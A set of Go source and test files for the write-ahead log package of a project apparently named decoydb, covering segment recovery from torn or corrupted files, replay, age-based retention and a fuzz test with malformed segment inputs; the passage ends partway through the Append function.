