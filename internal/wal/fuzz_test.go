package wal

import (
	"encoding/binary"
	"os"
	"path/filepath"
	"testing"

	"decoydb/internal/core"
	"decoydb/internal/evcodec"
)

// FuzzSegment throws arbitrary bytes at Open as the content of a
// segment file. A WAL directory outlives the process that wrote it, so
// recovery must treat it like network input: truncated tails, flipped
// bits, oversized declared lengths — for every input Open must return a
// working log (never panic, never allocate past the configured limits),
// whatever survives must replay cleanly, and the log must accept new
// appends and reopen cleanly afterwards.
func FuzzSegment(f *testing.F) {
	// A fully valid segment with three batches and a mark.
	seedDir := f.TempDir()
	l, err := Open(Options{Dir: seedDir, Sync: SyncBatch})
	if err != nil {
		f.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		evs := make([]core.Event, 2)
		for j := range evs {
			evs[j] = testEvent(i*2 + j)
		}
		if _, err := l.Append(evs, []byte{byte(i)}); err != nil {
			f.Fatal(err)
		}
	}
	if err := l.AppendMark(2); err != nil {
		f.Fatal(err)
	}
	if err := l.Close(); err != nil {
		f.Fatal(err)
	}
	valid, err := os.ReadFile(filepath.Join(seedDir, segName(1)))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(valid)
	f.Add(valid[:len(valid)-3])     // torn mid-record
	f.Add(valid[:headerSize])       // header only
	f.Add(valid[:headerSize/2])     // torn mid-header
	f.Add([]byte{})                 // empty file
	f.Add([]byte("not a wal file")) // garbage header
	flipped := append([]byte(nil), valid...)
	flipped[headerSize+12] ^= 0x80 // bit flip inside first record
	f.Add(flipped)
	// Valid header, then a record declaring a huge length.
	huge := append([]byte(nil), valid[:headerSize]...)
	huge = binary.BigEndian.AppendUint32(huge, 0xfffffff0)
	huge = append(huge, 0xde, 0xad)
	f.Add(huge)
	// Valid header, zero-length record (too short for even a CRC).
	zero := append([]byte(nil), valid[:headerSize]...)
	zero = binary.BigEndian.AppendUint32(zero, 0)
	f.Add(zero)

	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		if err := os.WriteFile(filepath.Join(dir, segName(1)), data, 0o644); err != nil {
			t.Fatal(err)
		}
		// Tight limits: a hostile declared length must be bounded by
		// these, not by available memory.
		opts := Options{
			Dir:            dir,
			MaxRecordBytes: 1 << 16,
			Limits:         evcodec.Limits{MaxRaw: 1 << 16, MaxEvents: 256},
		}
		l, err := Open(opts)
		if err != nil {
			// Open fails only on I/O errors, never on content.
			t.Fatalf("Open: %v", err)
		}
		st := l.Stats()
		// Whatever recovery accepted must replay without error, with
		// exactly the accounted number of batches.
		var batches, events uint64
		if err := l.Replay(0, func(seq uint64, tag []byte, evs []core.Event) error {
			batches++
			events += uint64(len(evs))
			if seq > st.LastSeq {
				t.Fatalf("replayed seq %d past recovered LastSeq %d", seq, st.LastSeq)
			}
			return nil
		}); err != nil {
			t.Fatalf("Replay after recovery: %v", err)
		}
		if batches != st.Recovered.Batches || events != st.Recovered.Events {
			t.Fatalf("replayed %d batches/%d events, recovery accounted %d/%d",
				batches, events, st.Recovered.Batches, st.Recovered.Events)
		}
		// The log must be live: append, sync, reopen with nothing torn.
		seq, err := l.Append([]core.Event{testEvent(1)}, []byte("t"))
		if err != nil {
			t.Fatalf("Append after recovery: %v", err)
		}
		if seq != st.LastSeq+1 {
			t.Fatalf("appended seq %d, want %d", seq, st.LastSeq+1)
		}
		if err := l.Close(); err != nil {
			t.Fatalf("Close: %v", err)
		}
		l2, err := Open(opts)
		if err != nil {
			t.Fatalf("reopen: %v", err)
		}
		if st2 := l2.Stats(); st2.Recovered.TornBytes != 0 {
			t.Fatalf("second open found torn bytes %d — truncation was not physical", st2.Recovered.TornBytes)
		} else if st2.LastSeq != seq {
			t.Fatalf("reopen LastSeq = %d, want %d", st2.LastSeq, seq)
		}
		l2.Close()
	})
}
