package wal

import (
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"

	"decoydb/internal/core"
	"decoydb/internal/evcodec"
	"decoydb/internal/wire"
)

// This file is the read side of the log: Open-time recovery and Replay.
//
// Recovery is where the durability claim is actually earned. A SIGKILL
// or power cut can leave the last segment torn at ANY byte offset — mid
// length prefix, mid CRC, mid payload — and a disk can flip bits in
// records that were written fine. The scan below accepts exactly the
// prefix of each segment that parses and checksums end-to-end, cuts the
// file at the first record that does not, and accounts every discarded
// byte in Stats.Recovered. Nothing is dropped silently, and nothing
// half-parsed is ever replayed.

// errTorn marks a parse failure that truncates the segment at the
// current record boundary rather than failing Open.
var errTorn = errors.New("wal: torn record")

// recoverDir scans opts.Dir and rebuilds the in-memory segment index.
// Called once from Open before the log is shared.
func (l *Log) recoverDir() error {
	entries, err := os.ReadDir(l.opts.Dir)
	if err != nil {
		return fmt.Errorf("wal: %w", err)
	}
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		index, ok := segIndex(e.Name())
		if !ok {
			continue // foreign file; leave it alone
		}
		l.segs = append(l.segs, &segment{
			path:  filepath.Join(l.opts.Dir, e.Name()),
			index: index,
		})
	}
	sortSegs(l.segs)
	for _, seg := range l.segs {
		if err := l.recoverSegment(seg); err != nil {
			return err
		}
		if seg.maxSeq > l.lastSeq {
			l.lastSeq = seg.maxSeq
		}
		// An empty segment's header base still anchors the sequence
		// space: a log whose batches were all compacted away must not
		// restart numbering from zero.
		if seg.base > l.lastSeq {
			l.lastSeq = seg.base
		}
	}
	// Ownership pins apply in log order, but a mark in a later segment
	// retires batches owned in an earlier one: prune once the whole
	// directory is scanned.
	for s := range l.owners {
		if s <= l.mark {
			delete(l.owners, s)
		}
	}
	return nil
}

// recoverSegment scans one segment file, populating seg's index fields
// and truncating the file at the first invalid record. A file too
// mangled to even hold a header is truncated to empty and rewritten
// with a fresh header continuing the current sequence space.
func (l *Log) recoverSegment(seg *segment) error {
	f, err := os.OpenFile(seg.path, os.O_RDWR, 0o644)
	if err != nil {
		return fmt.Errorf("wal: open %s: %w", seg.path, err)
	}
	defer f.Close()
	info, err := f.Stat()
	if err != nil {
		return fmt.Errorf("wal: stat %s: %w", seg.path, err)
	}
	size := info.Size()
	seg.created = info.ModTime()

	base, err := readHeader(f)
	if err != nil {
		// Headerless stub (torn during creation) or foreign garbage:
		// everything in it is loss; reinitialise as an empty segment.
		l.recovered.TornBytes += uint64(size)
		if size > 0 {
			l.recovered.Truncations++
		}
		l.logf("wal: %s: bad header (%v); reset, %d bytes lost", filepath.Base(seg.path), err, size)
		if err := f.Truncate(0); err != nil {
			return fmt.Errorf("wal: truncate %s: %w", seg.path, err)
		}
		hdr := wire.NewWriter(headerSize)
		hdr.Uint32BE(Magic).Uint8(FormatVersion).Zeros(3).Uint64LE(l.lastSeq)
		if _, err := f.WriteAt(hdr.Bytes(), 0); err != nil {
			return fmt.Errorf("wal: rewrite header %s: %w", seg.path, err)
		}
		seg.base = l.lastSeq
		seg.size = headerSize
		return nil
	}
	seg.base = base

	br := &countingReader{r: f, off: headerSize}
	valid := int64(headerSize)
	for {
		rec, err := l.readRecord(br)
		if err == io.EOF {
			break
		}
		if err != nil {
			if !errors.Is(err, errTorn) {
				return fmt.Errorf("wal: scan %s: %w", seg.path, err)
			}
			lost := size - valid
			l.recovered.TornBytes += uint64(lost)
			l.recovered.Truncations++
			l.logf("wal: %s: torn tail at offset %d (%v); %d bytes lost", filepath.Base(seg.path), valid, err, lost)
			if err := f.Truncate(valid); err != nil {
				return fmt.Errorf("wal: truncate %s: %w", seg.path, err)
			}
			size = valid
			break
		}
		valid = br.off
		switch rec.typ {
		case recBatch:
			if seg.batches == 0 {
				seg.minSeq = rec.seq
			}
			seg.maxSeq = rec.seq
			seg.batches++
			l.recovered.Batches++
			l.recovered.Events += uint64(len(rec.events))
		case recMark:
			if rec.seq > l.mark {
				l.mark = rec.seq
			}
			l.recovered.Marks++
		case recOwner:
			// Latest record for a sequence wins; an empty address is a
			// released pin. Pins below the mark are pruned after the
			// whole directory is scanned (recoverDir).
			if rec.addr == "" {
				delete(l.owners, rec.seq)
			} else {
				if l.owners == nil {
					l.owners = make(map[uint64]string)
				}
				l.owners[rec.seq] = rec.addr
			}
			l.recovered.Owners++
		}
	}
	seg.size = valid
	return nil
}

// readHeader reads and validates a segment header, returning its base
// sequence.
func readHeader(r io.Reader) (uint64, error) {
	var buf [headerSize]byte
	if err := wire.ReadFull(r, buf[:]); err != nil {
		return 0, err
	}
	h := wire.NewReader(buf[:])
	magic, _ := h.Uint32BE()
	if magic != Magic {
		return 0, fmt.Errorf("bad magic %#x", magic)
	}
	ver, _ := h.Uint8()
	if ver != FormatVersion {
		return 0, fmt.Errorf("unsupported segment version %d", ver)
	}
	_ = h.Skip(3)
	base, _ := h.Uint64LE()
	return base, nil
}

// countingReader tracks the file offset so the recovery scan knows
// where the last fully valid record ends.
type countingReader struct {
	r   io.Reader
	off int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.off += int64(n)
	return n, err
}

// record is one parsed log record.
type record struct {
	typ    byte
	seq    uint64
	tag    []byte
	addr   string       // ownership records: pinned endpoint address
	events []core.Event // decoded batch payload (nil unless wantEvents)
}

// readRecord reads and fully validates the next record: frame length
// bounded before allocation, record CRC verified over the whole body,
// and batch payloads decoded under the configured limits (so anything
// recovery accepts is guaranteed to replay). io.EOF means a clean end
// of segment — EOF exactly at a record boundary, before any prefix
// byte; a prefix that reads whole but declares more payload than the
// file holds is a torn tail, not a clean end. errTorn-wrapped errors
// mean the segment dies here.
func (l *Log) readRecord(r io.Reader) (record, error) {
	var pre [4]byte
	if _, err := io.ReadFull(r, pre[:]); err != nil {
		if err == io.EOF {
			return record{}, io.EOF
		}
		return record{}, fmt.Errorf("%w: length prefix: %w", errTorn, err)
	}
	n := int(uint32(pre[0])<<24 | uint32(pre[1])<<16 | uint32(pre[2])<<8 | uint32(pre[3]))
	if n > l.opts.MaxRecordBytes {
		return record{}, fmt.Errorf("%w: %w: %d > %d", errTorn, wire.ErrFrameTooLarge, n, l.opts.MaxRecordBytes)
	}
	body := make([]byte, n)
	if _, err := io.ReadFull(r, body); err != nil {
		return record{}, fmt.Errorf("%w: %d-byte record body: %w", errTorn, n, err)
	}
	return l.parseRecord(body)
}

// parseRecord validates one framed record body (crc32 + typed payload).
func (l *Log) parseRecord(body []byte) (record, error) {
	r := wire.NewReader(body)
	sum, err := r.Uint32LE()
	if err != nil {
		return record{}, fmt.Errorf("%w: %w", errTorn, err)
	}
	rest := r.Rest()
	if crc32.ChecksumIEEE(rest) != sum {
		return record{}, fmt.Errorf("%w: record checksum mismatch", errTorn)
	}
	rr := wire.NewReader(rest)
	typ, err := rr.Uint8()
	if err != nil {
		return record{}, fmt.Errorf("%w: %w", errTorn, err)
	}
	switch typ {
	case recBatch:
		tagLen, err := rr.Uint16LE()
		if err != nil {
			return record{}, fmt.Errorf("%w: %w", errTorn, err)
		}
		if int(tagLen) > MaxTag {
			return record{}, fmt.Errorf("%w: %d-byte tag", errTorn, tagLen)
		}
		tag, err := rr.Bytes(int(tagLen))
		if err != nil {
			return record{}, fmt.Errorf("%w: %w", errTorn, err)
		}
		seq, events, _, err := evcodec.ReadBatch(rr, l.opts.Limits)
		if err != nil {
			return record{}, fmt.Errorf("%w: %w", errTorn, err)
		}
		if rr.Len() != 0 {
			return record{}, fmt.Errorf("%w: %d trailing bytes", errTorn, rr.Len())
		}
		out := record{typ: recBatch, seq: seq, events: events}
		if tagLen > 0 {
			out.tag = append([]byte(nil), tag...)
		}
		return out, nil
	case recMark:
		seq, err := rr.Uint64LE()
		if err != nil {
			return record{}, fmt.Errorf("%w: %w", errTorn, err)
		}
		if rr.Len() != 0 {
			return record{}, fmt.Errorf("%w: %d trailing bytes", errTorn, rr.Len())
		}
		return record{typ: recMark, seq: seq}, nil
	case recOwner:
		// evcodec bounds the declared address length before allocation
		// and rejects trailing bytes, so a bit-flipped record cannot
		// over-allocate or half-parse into a wrong pin.
		seq, addr, err := evcodec.ReadOwner(rr)
		if err != nil {
			return record{}, fmt.Errorf("%w: %w", errTorn, err)
		}
		return record{typ: recOwner, seq: seq, addr: addr}, nil
	}
	return record{}, fmt.Errorf("%w: unknown record type %d", errTorn, typ)
}

// Replay streams every recovered batch with sequence >= from, in log
// order, to fn. The tag is the batch's provenance annotation (nil if
// none); neither it nor the events slice may be retained after fn
// returns. Replay holds the log lock, so it cannot run concurrently
// with appends — call it after Open, before wiring the log into a live
// pipeline. A non-nil error from fn aborts the replay and is returned.
func (l *Log) Replay(from uint64, fn func(seq uint64, tag []byte, events []core.Event) error) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return ErrClosed
	}
	// Appends since the last fsync live in the OS page cache; a second
	// read-only descriptor on the same file sees them regardless, so no
	// sync is needed for an in-process replay.
	for _, seg := range l.segs {
		if seg.batches == 0 || seg.maxSeq < from {
			continue
		}
		if err := l.replaySegment(seg, from, fn); err != nil {
			return err
		}
	}
	return nil
}

// replaySegment streams one segment's batch records through fn.
func (l *Log) replaySegment(seg *segment, from uint64, fn func(uint64, []byte, []core.Event) error) error {
	f, err := os.Open(seg.path)
	if err != nil {
		return fmt.Errorf("wal: replay %s: %w", seg.path, err)
	}
	defer f.Close()
	if _, err := readHeader(f); err != nil {
		return fmt.Errorf("wal: replay %s: %w", seg.path, err)
	}
	// Read only the recovered extent: bytes past seg.size (appended by
	// this process after a hypothetical concurrent writer) cannot exist
	// because Replay holds the lock, but bounding the read keeps the
	// invariant local.
	r := io.LimitReader(f, seg.size-headerSize)
	for {
		rec, err := l.readRecord(r)
		if err == io.EOF {
			return nil
		}
		if err != nil {
			// Recovery validated this extent; a failure here means the
			// file changed under us or the disk is lying. Surface it.
			return fmt.Errorf("wal: replay %s: %w", seg.path, err)
		}
		if rec.typ != recBatch || rec.seq < from {
			continue
		}
		if err := fn(rec.seq, rec.tag, rec.events); err != nil {
			return err
		}
	}
}
