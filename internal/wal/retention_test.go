package wal

import (
	"testing"
	"time"
)

// TestCompactBefore: the age-based retention policy removes sealed
// segments whose successor was created before the cutoff, advances the
// consumer mark over the expired batches, and accounts the reclaimed
// bytes — while everything younger than the cutoff keeps replaying.
func TestCompactBefore(t *testing.T) {
	dir := t.TempDir()
	l := mustOpen(t, Options{Dir: dir, SegmentBytes: 256, Sync: SyncBatch})
	defer l.Close()

	// Old era: several batches, each rotating into its own tiny segment.
	for i := 0; i < 4; i++ {
		if _, err := l.Append(testEvents(8), nil); err != nil {
			t.Fatal(err)
		}
	}
	time.Sleep(20 * time.Millisecond)
	cutoff := time.Now()
	time.Sleep(time.Millisecond)
	// New era: batches that must survive retention.
	for i := 0; i < 3; i++ {
		if _, err := l.Append(testEvents(8), nil); err != nil {
			t.Fatal(err)
		}
	}

	removed, err := l.CompactBefore(cutoff)
	if err != nil {
		t.Fatalf("CompactBefore: %v", err)
	}
	if removed == 0 {
		t.Fatal("CompactBefore removed nothing")
	}
	st := l.Stats()
	if st.Compacted != uint64(removed) {
		t.Fatalf("Stats.Compacted = %d, want %d", st.Compacted, removed)
	}
	if st.CompactedBytes == 0 {
		t.Fatal("Stats.CompactedBytes = 0, want the reclaimed segment bytes")
	}
	if st.Mark == 0 {
		t.Fatal("expiry did not advance the consumer mark")
	}
	if st.Mark >= 5 {
		t.Fatalf("Mark = %d: retention expired new-era batches (seq 5..7)", st.Mark)
	}

	// Everything past the mark must still replay, ending at the last
	// appended batch.
	got := replayAll(t, l, l.Mark()+1)
	if len(got) == 0 {
		t.Fatal("nothing replays after retention")
	}
	if last := got[len(got)-1].seq; last != 7 {
		t.Fatalf("replay ends at seq %d, want 7", last)
	}
	for _, b := range got {
		if b.seq <= st.Mark {
			t.Fatalf("replay surfaced expired seq %d (mark %d)", b.seq, st.Mark)
		}
	}

	// A second pass with the same cutoff is a no-op.
	if again, err := l.CompactBefore(cutoff); err != nil || again != 0 {
		t.Fatalf("second CompactBefore = (%d, %v), want (0, nil)", again, err)
	}
}

// TestCompactBeforeFutureCutoffKeepsActive: even a cutoff in the future
// never deletes the active segment, so appends continue seamlessly.
func TestCompactBeforeFutureCutoffKeepsActive(t *testing.T) {
	dir := t.TempDir()
	l := mustOpen(t, Options{Dir: dir, SegmentBytes: 256, Sync: SyncBatch})
	defer l.Close()
	for i := 0; i < 3; i++ {
		if _, err := l.Append(testEvents(8), nil); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := l.CompactBefore(time.Now().Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	if st := l.Stats(); st.Segments < 1 {
		t.Fatalf("active segment deleted: %d segments", st.Segments)
	}
	seq, err := l.Append(testEvents(1), nil)
	if err != nil {
		t.Fatalf("append after full expiry: %v", err)
	}
	if seq != 4 {
		t.Fatalf("sequence after expiry = %d, want 4", seq)
	}
}

// TestAppendLatencyHistogram: every successful append lands one
// observation in the latency histogram.
func TestAppendLatencyHistogram(t *testing.T) {
	l := mustOpen(t, Options{Dir: t.TempDir(), Sync: SyncBatch})
	defer l.Close()
	for i := 0; i < 5; i++ {
		if _, err := l.Append(testEvents(4), nil); err != nil {
			t.Fatal(err)
		}
	}
	h := l.Stats().AppendLatency
	if h.Count != 5 {
		t.Fatalf("AppendLatency.Count = %d, want 5", h.Count)
	}
	if h.Sum <= 0 || h.Max <= 0 {
		t.Fatalf("AppendLatency Sum=%s Max=%s, want positive", h.Sum, h.Max)
	}
}
