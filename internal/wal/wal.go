// Package wal is the durability layer under the capture pipeline: a
// segmented append-only write-ahead log of event batches. The paper's
// multi-month, 278-node capture is only reproducible if events survive
// process restarts; everything upstream of this package is in-memory,
// so the WAL is what makes a capture longer than one process lifetime.
//
// Two consumers share it. The sharded event store (internal/evstore)
// journals every ingested batch and replays the log on reopen, so
// dbcollect and decoydb recover their full capture after a crash. The
// relay forwarder (internal/relay) backs its retransmission spool with
// it, so a farm that dies with unacked frames resumes retransmitting
// from disk instead of silently losing its tail.
//
// On-disk format — one directory, numbered segment files:
//
//	wal-00000001.seg
//	┌──────────────────────────────────────────────────────┐
//	│ header: "DWAL" ver(1) reserved(3) baseSeq(8 LE)      │
//	├──────────────────────────────────────────────────────┤
//	│ record: len(4 BE) crc32(4 LE) body                   │
//	│   body: type(1)=batch tagLen(2 LE) tag evcodec-batch │
//	│   body: type(1)=mark  seq(8 LE)                      │
//	│   body: type(1)=owner evcodec-owner (seq, addr)      │
//	│ record: ...                                          │
//	└──────────────────────────────────────────────────────┘
//
// The batch body is the shared internal/evcodec encoding — the exact
// bytes the relay puts on the wire (sequence number, event count,
// uncompressed size, payload CRC, flate-compressed events) — so the
// segment format and the wire format cannot drift. The record-level
// CRC covers the whole body, so a bit flip anywhere (not just in the
// compressed payload) is detected before parsing. Mark records persist
// the consumer's high-water mark (collector acks, for the spool);
// Compact drops whole segments at or below it. Owner records persist
// which collector endpoint a spooled batch is pinned to (the shared
// evcodec owner encoding), so a restarted forwarder retransmits each
// unacked frame only to the collector that may already hold it.
//
// Recovery treats the directory as hostile — a crash can tear the tail
// of the last segment at any byte, and disks corrupt silently: every
// declared length is bounded before allocation, every record's CRC is
// verified, and the first invalid record truncates its segment there,
// with the discarded bytes accounted in Stats, never silently dropped.
package wal

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/evcodec"
	"decoydb/internal/wire"
)

// Segment header.
const (
	// Magic opens every segment file ("DWAL").
	Magic uint32 = 0x4457414c
	// FormatVersion is the segment format version.
	FormatVersion = 1
	// headerSize is the fixed segment header length.
	headerSize = 16
)

// Record types.
const (
	recBatch = 1
	recMark  = 2
	recOwner = 3
)

// Limits and defaults.
const (
	// DefaultSegmentBytes rotates the active segment past this size.
	DefaultSegmentBytes = 64 << 20
	// DefaultSyncEvery is the background fsync cadence for SyncInterval.
	DefaultSyncEvery = time.Second
	// DefaultMaxRecordBytes caps one record on disk — the same bound the
	// relay puts on one wire frame, plus tag slack.
	DefaultMaxRecordBytes = 4<<20 + 2048
	// MaxTag caps the provenance annotation stored with a batch.
	MaxTag = 1024
)

// ErrClosed is returned by operations on a closed log.
var ErrClosed = fmt.Errorf("wal: log closed")

// SyncPolicy selects when appended records are fsynced to disk. The
// choice trades the machine-crash loss window against append latency;
// a plain process crash (kill -9) loses nothing under any policy,
// because every record is written to the file before Append returns.
type SyncPolicy int

const (
	// SyncInterval fsyncs in the background every Options.SyncEvery.
	// The default: bounded loss window, no fsync on the ingest path.
	SyncInterval SyncPolicy = iota
	// SyncBatch fsyncs after every appended record before returning.
	SyncBatch
	// SyncOff never fsyncs; the OS flushes when it pleases.
	SyncOff
)

// String returns the flag spelling of the policy.
func (p SyncPolicy) String() string {
	switch p {
	case SyncInterval:
		return "interval"
	case SyncBatch:
		return "batch"
	case SyncOff:
		return "off"
	}
	return fmt.Sprintf("SyncPolicy(%d)", int(p))
}

// ParseSyncPolicy parses the flag spelling of a SyncPolicy.
func ParseSyncPolicy(s string) (SyncPolicy, error) {
	switch strings.ToLower(strings.TrimSpace(s)) {
	case "interval", "":
		return SyncInterval, nil
	case "batch", "every", "always":
		return SyncBatch, nil
	case "off", "none":
		return SyncOff, nil
	}
	return 0, fmt.Errorf("wal: unknown fsync policy %q (want interval, batch or off)", s)
}

// Options configure a Log. Dir is required.
type Options struct {
	// Dir is the segment directory; created if absent. One Log owns it.
	Dir string
	// SegmentBytes rotates the active segment once it exceeds this many
	// bytes. 0 means DefaultSegmentBytes.
	SegmentBytes int64
	// SegmentAge rotates the active segment once it is older than this,
	// even if small — so Compact can reclaim a slow trickle. 0 disables
	// age rotation.
	SegmentAge time.Duration
	// Sync is the fsync policy; SyncEvery is the SyncInterval cadence
	// (0 means DefaultSyncEvery).
	Sync      SyncPolicy
	SyncEvery time.Duration
	// MaxRecordBytes bounds one record, written and read. 0 means
	// DefaultMaxRecordBytes.
	MaxRecordBytes int
	// Limits bound per-batch decode allocations during recovery and
	// replay. Zero fields mean the evcodec defaults.
	Limits evcodec.Limits
	// CompressionLevel is the evcodec compression level for batch
	// payloads. 0 means evcodec.LevelStored: segment appends sit on the
	// ingest hot path, and stored flate blocks make the journal cost a
	// copy instead of a compression pass while staying decodable by the
	// same codec. Pass a compress/flate level (e.g. flate.BestSpeed) to
	// trade append CPU for disk.
	CompressionLevel int
	// Logf, when non-nil, receives operational diagnostics (recovered
	// segments, truncated tails, compactions).
	Logf func(format string, args ...any)
}

func (o Options) withDefaults() Options {
	if o.SegmentBytes <= 0 {
		o.SegmentBytes = DefaultSegmentBytes
	}
	if o.SyncEvery <= 0 {
		o.SyncEvery = DefaultSyncEvery
	}
	if o.MaxRecordBytes <= 0 {
		o.MaxRecordBytes = DefaultMaxRecordBytes
	}
	if o.CompressionLevel == 0 {
		o.CompressionLevel = evcodec.LevelStored
	}
	o.Limits = o.Limits.WithDefaults()
	return o
}

// segment is the in-memory index entry for one segment file.
type segment struct {
	path    string
	index   uint64 // creation-ordered file number
	base    uint64 // lastSeq when the segment was created (header field)
	minSeq  uint64 // lowest batch sequence present (0 = none)
	maxSeq  uint64 // highest batch sequence present (0 = none)
	batches int
	size    int64
	created time.Time
}

// Log is a segmented append-only event log. All methods are safe for
// concurrent use; appends serialise on one mutex (the segment file is a
// single append stream regardless).
type Log struct {
	opts Options

	mu      sync.Mutex
	segs    []*segment // creation order; last entry is active
	active  *os.File
	dirty   bool // unsynced appends
	lastSeq uint64
	mark    uint64
	owners  map[uint64]string // unconsumed batch seq → pinned endpoint addr
	closed  bool

	stopCh chan struct{}
	wg     sync.WaitGroup

	firstErr error

	// Counters (guarded by mu).
	appendedBatches uint64
	appendedEvents  uint64
	appendedBytes   uint64
	marks           uint64
	ownerRecs       uint64
	syncs           uint64
	rotations       uint64
	compacted       uint64
	compactedBytes  uint64
	appendLat       core.DurationHist
	recovered       recovery
}

// Open opens (creating if necessary) the log in opts.Dir, recovers
// every segment — truncating a torn tail at the last valid record, with
// the loss accounted in Stats — and readies the last segment for
// append. The returned log's LastSeq continues the recovered sequence
// space; Replay streams the surviving batches.
func Open(opts Options) (*Log, error) {
	if opts.Dir == "" {
		return nil, fmt.Errorf("wal: empty directory")
	}
	opts = opts.withDefaults()
	if err := os.MkdirAll(opts.Dir, 0o755); err != nil {
		return nil, fmt.Errorf("wal: %w", err)
	}
	l := &Log{opts: opts, stopCh: make(chan struct{})}
	if err := l.recoverDir(); err != nil {
		return nil, err
	}
	if err := l.openActive(); err != nil {
		return nil, err
	}
	if opts.Sync == SyncInterval {
		l.wg.Add(1)
		go l.syncLoop()
	}
	return l, nil
}

// segName formats the file name of segment number index.
func segName(index uint64) string { return fmt.Sprintf("wal-%08d.seg", index) }

// segIndex parses a segment file name; ok is false for foreign files.
func segIndex(name string) (uint64, bool) {
	var index uint64
	if n, err := fmt.Sscanf(name, "wal-%d.seg", &index); n != 1 || err != nil {
		return 0, false
	}
	return index, true
}

// openActive opens the last recovered segment for append, or creates
// the first segment of a fresh log. Called once from Open, under no
// lock (the log is not yet shared).
func (l *Log) openActive() error {
	if len(l.segs) == 0 {
		return l.newSegment()
	}
	seg := l.segs[len(l.segs)-1]
	f, err := os.OpenFile(seg.path, os.O_RDWR, 0o644)
	if err != nil {
		return fmt.Errorf("wal: reopen %s: %w", seg.path, err)
	}
	if _, err := f.Seek(seg.size, 0); err != nil {
		f.Close()
		return fmt.Errorf("wal: seek %s: %w", seg.path, err)
	}
	l.active = f
	return nil
}

// newSegment seals the current active segment (if any) and starts the
// next one. Caller holds mu (or the log is not yet shared).
func (l *Log) newSegment() error {
	var index uint64 = 1
	if n := len(l.segs); n > 0 {
		index = l.segs[n-1].index + 1
		if l.active != nil {
			if l.dirty {
				if err := l.active.Sync(); err != nil {
					return fmt.Errorf("wal: sync before rotate: %w", err)
				}
				l.dirty = false
				l.syncs++
			}
			if err := l.active.Close(); err != nil {
				return fmt.Errorf("wal: seal segment: %w", err)
			}
			l.active = nil
			l.rotations++
		}
	}
	path := filepath.Join(l.opts.Dir, segName(index))
	f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_EXCL, 0o644)
	if err != nil {
		return fmt.Errorf("wal: create segment: %w", err)
	}
	hdr := wire.NewWriter(headerSize)
	hdr.Uint32BE(Magic).Uint8(FormatVersion).Zeros(3).Uint64LE(l.lastSeq)
	if _, err := f.Write(hdr.Bytes()); err != nil {
		f.Close()
		return fmt.Errorf("wal: write segment header: %w", err)
	}
	l.segs = append(l.segs, &segment{
		path: path, index: index, base: l.lastSeq,
		size: headerSize, created: time.Now(),
	})
	l.active = f
	return nil
}

// rotateIfNeededLocked rotates the active segment before a write of
// recLen bytes if size or age demands it. A single record larger than
// SegmentBytes still gets a segment of its own.
func (l *Log) rotateIfNeededLocked(recLen int) error {
	seg := l.segs[len(l.segs)-1]
	over := seg.size > headerSize && seg.size+int64(recLen) > l.opts.SegmentBytes
	old := l.opts.SegmentAge > 0 && seg.size > headerSize && time.Since(seg.created) > l.opts.SegmentAge
	if !over && !old {
		return nil
	}
	return l.newSegment()
}

// writeRecordLocked frames body (crc + length prefix) and appends it to
// the active segment under the configured sync policy.
// recBufs recycles the assembled-record buffer; a record never outlives
// its write call.
var recBufs = sync.Pool{New: func() any { b := make([]byte, 0, 32<<10); return &b }}

// writeRecordLocked frames the concatenation of parts as one record —
// length prefix, CRC over the body, body — and appends it to the active
// segment with a single write. Taking the body in parts lets Append
// pass its small framing head and the (large) compressed payload
// without materialising the body separately first.
func (l *Log) writeRecordLocked(parts ...[]byte) error {
	n := 0
	crc := uint32(0)
	for _, p := range parts {
		n += len(p)
		crc = crc32.Update(crc, crc32.IEEETable, p)
	}
	if 4+n > l.opts.MaxRecordBytes {
		return fmt.Errorf("wal: %d-byte record exceeds limit %d", 4+n, l.opts.MaxRecordBytes)
	}
	recp := recBufs.Get().(*[]byte)
	rec := (*recp)[:0]
	rec = binary.BigEndian.AppendUint32(rec, uint32(4+n))
	rec = binary.LittleEndian.AppendUint32(rec, crc)
	for _, p := range parts {
		rec = append(rec, p...)
	}
	defer func() { *recp = rec[:0]; recBufs.Put(recp) }()
	if err := l.rotateIfNeededLocked(len(rec)); err != nil {
		return err
	}
	if _, err := l.active.Write(rec); err != nil {
		l.noteErrLocked(err)
		return fmt.Errorf("wal: append: %w", err)
	}
	seg := l.segs[len(l.segs)-1]
	seg.size += int64(len(rec))
	l.appendedBytes += uint64(len(rec))
	if l.opts.Sync == SyncBatch {
		if err := l.active.Sync(); err != nil {
			l.noteErrLocked(err)
			return fmt.Errorf("wal: fsync: %w", err)
		}
		l.syncs++
	} else {
		l.dirty = true
	}
	return nil
}

// Append assigns the next sequence number to events, persists them as
// one batch record (with the optional provenance tag, at most MaxTag
// bytes) and returns the sequence. Under SyncBatch the record is
// fsynced before Append returns; under the other policies it is in the
// file (so a process crash loses nothing) but not yet forced to stable
// storage (so a machine crash may). An empty batch is a no-op.
func (l *Log) Append(events []core.Event, tag []byte) (seq uint64, err error) {
	if len(events) == 0 {
		l.mu.Lock()
		defer l.mu.Unlock()
		return l.lastSeq, nil
	}
	if len(tag) > MaxTag {
		return 0, fmt.Errorf("wal: %d-byte tag exceeds limit %d", len(tag), MaxTag)
	}
	began := time.Now()
	// Compress before taking the lock: the payload carries no sequence
	// number, so concurrent appenders overlap the expensive part and only
	// serialise the framed write.
	payload, err := evcodec.Compress(events, l.opts.CompressionLevel)
	if err != nil {
		return 0, err
	}
	defer payload.Release()
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return 0, ErrClosed
	}
	seq = l.lastSeq + 1
	head := make([]byte, 0, 64+len(tag))
	head = append(head, recBatch)
	head = binary.LittleEndian.AppendUint16(head, uint16(len(tag)))
	head = append(head, tag...)
	head = payload.AppendHead(head, seq)
